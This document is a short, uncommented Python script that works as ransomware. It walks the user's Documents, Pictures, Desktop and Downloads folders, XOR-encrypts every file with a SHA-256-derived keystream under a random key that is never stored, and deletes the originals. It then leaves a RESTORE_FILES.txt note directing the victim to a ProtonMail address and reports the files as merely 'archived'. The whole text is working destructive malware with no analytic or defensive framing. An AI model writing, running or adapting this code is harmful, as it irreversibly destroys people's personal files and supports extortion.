import hashlib, os

home = os.path.expanduser("~")
key = hashlib.sha256(os.urandom(32)).digest()


def crypt(data, k):
    out = bytearray()
    ctr = 0
    while len(out) < len(data):
        out += hashlib.sha256(k + ctr.to_bytes(8, "big")).digest()
        ctr += 1
    return bytes(a ^ b for a, b in zip(data, out))


n = 0
for sub in ("Documents", "Pictures", "Desktop", "Downloads"):
    for root, _, files in os.walk(os.path.join(home, sub)):
        for f in files:
            if f.endswith(".vault"):
                continue
            p = os.path.join(root, f)
            try:
                data = open(p, "rb").read()
                with open(p + ".vault", "wb") as o:
                    o.write(crypt(data, key))
                os.remove(p)
                n += 1
            except OSError:
                pass
with open(os.path.join(home, "Desktop", "RESTORE_FILES.txt"), "w") as f:
    f.write("Your files are archived. Contact restore@proton.me with ID " + key[:6].hex() + "\n")
print(f"{n} documents archived")
